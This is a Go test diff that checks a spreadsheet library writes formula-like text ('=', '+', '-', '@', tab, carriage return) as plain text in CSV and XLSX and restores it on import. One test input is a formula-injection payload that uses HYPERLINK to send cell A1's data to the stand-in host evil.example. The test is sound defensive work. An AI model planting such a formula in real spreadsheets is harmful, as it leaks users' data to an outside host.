@@ -2,6 +2,7 @@ package tabular
 
 import (
 	"bytes"
+	"strings"
 	"testing"
 	"time"
 
@@ -72,5 +73,60 @@ func TestWriteWorkbook(t *testing.T) {
 	header, rows, err := Read(bytes.NewReader(data), "x.xlsx")
 	if err != nil || header[0] != "Näitaja" || len(rows) != 1 {
 		t.Errorf("Read: %q %q %v", header, rows, err)
+	}
+}
+
+// TestFormulaText: text that a spreadsheet would run as a formula is written as text in
+// both formats, numbers stay numbers, and Restore gives the CSV's text back for an import.
+func TestFormulaText(t *testing.T) {
+	evil := `=HYPERLINK("http://evil.example/?d="&A1,"Click")`
+	texts := []string{evil, "+372 5555", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "'quoted"}
+	row := []any{-5, -1.5}
+	for _, s := range texts {
+		row = append(row, s)
+	}
+	tb := Table{Sheet: "T", Header: []string{"a", "b", "c", "d", "e", "f", "g", "h", "i", "j"}, Rows: [][]any{row}}
+	var b bytes.Buffer
+	if err := WriteCSV(&b, tb); err != nil {
+		t.Fatal(err)
+	}
+	header, rows, err := Read(bytes.NewReader(b.Bytes()), "t.csv")
+	if err != nil || len(header) != 10 || len(rows) != 1 {
+		t.Fatalf("Read: %q %q %v", header, rows, err)
+	}
+	if rows[0][0] != "-5" || rows[0][1] != "-1,5" {
+		t.Errorf("numbers %q %q, want -5 and -1,5", rows[0][0], rows[0][1])
+	}
+	for i, s := range rows[0][2:] {
+		if s != "" && strings.ContainsRune(formulaStart, rune(s[0])) {
+			t.Errorf("cell %d %q starts with a formula character", i+2, s)
+		}
+	}
+	Restore(rows)
+	for i, want := range texts {
+		if got := rows[0][i+2]; got != want {
+			t.Errorf("restored %q, want %q", got, want)
+		}
+	}
+
+	b.Reset()
+	if err := WriteXLSX(&b, tb); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, want := range texts {
+		cell, _ := excelize.CoordinatesToCellName(i+3, 2)
+		if formula, _ := f.GetCellFormula("T", cell); formula != "" {
+			t.Errorf("%s is the formula %q", cell, formula)
+		}
+		if typ, _ := f.GetCellType("T", cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+			t.Errorf("%s type %v, want a string", cell, typ)
+		}
+		if got, _ := f.GetCellValue("T", cell); got != want {
+			t.Errorf("%s %q, want %q", cell, got, want)
+		}
 	}
 }
